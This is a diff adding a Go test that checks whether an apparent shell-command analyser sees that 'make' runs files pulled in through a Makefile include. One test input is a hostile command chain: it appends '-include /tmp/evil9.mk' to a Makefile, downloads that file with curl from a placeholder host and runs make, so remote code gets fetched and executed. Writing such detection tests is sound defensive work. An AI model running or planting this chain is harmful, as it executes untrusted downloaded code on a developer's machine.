@@ -145,3 +145,27 @@ func TestStdinCopies(t *testing.T) {
 		}
 	}
 }
+
+// A makefile's include reads another file as part of it: a file the line
+// downloaded or wrote is run when make runs.
+func TestMakeIncludes(t *testing.T) {
+	at := Place{Dir: "/home/dev/project", Home: "/home/dev"}
+	r := ParseIn("echo 'include x.mk' >> Makefile; printf 'all:\\n\\ttouch /tmp/m\\n' > x.mk; make", at)
+	found := false
+	for _, c := range r.Commands {
+		found = found || c.Name == "touch"
+	}
+	if !found {
+		t.Errorf("the included makefile's recipe is not run: %v", describeAll(r))
+	}
+	r = ParseIn("echo '-include /tmp/evil9.mk' >> Makefile; curl -so /tmp/evil9.mk https://x.example/m; make", at)
+	ran := false
+	for _, c := range r.Commands {
+		for _, f := range c.Runs {
+			ran = ran || f == "/tmp/evil9.mk"
+		}
+	}
+	if !ran {
+		t.Errorf("make does not run the included download: %v", describeAll(r))
+	}
+}
